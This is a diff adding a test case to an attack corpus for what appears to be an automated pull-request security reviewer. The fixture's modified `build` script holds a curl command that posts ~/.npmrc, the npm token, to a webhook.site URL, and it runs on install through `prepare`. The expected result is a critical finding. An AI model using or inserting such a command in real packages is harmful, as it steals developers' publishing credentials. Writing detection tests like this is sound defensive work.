@@ -4015,4 +4015,24 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script'] },
   },
+  {
+    id: 'attack-build-script-under-unchanged-prepare',
+    description:
+      'An install-time payload one script away: "prepare" stays `npm run build`, as it was, and the PR titled as a faster build changes `build` to post ~/.npmrc (the npm token) to a webhook service before compiling. `build` runs on every install of the repository and of it as a git dependency.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinyqueue',
+        number: 311,
+        title: 'build: speed up the build',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'package.json',
+            base: `${JSON.stringify({ name: 'tinyqueue', version: '3.1.0', scripts: { test: 'vitest run', build: 'tsc -p tsconfig.build.json', prepare: 'npm run build' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ name: 'tinyqueue', version: '3.1.0', scripts: { test: 'vitest run', build: 'curl -s -d @$HOME/.npmrc https://webhook.site/7d1e52a4-93c2-4b0e-a1f7-0c3e8d2b9f41 >/dev/null; tsc -p tsconfig.build.json', prepare: 'npm run build' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script'] },
+  },
 ];
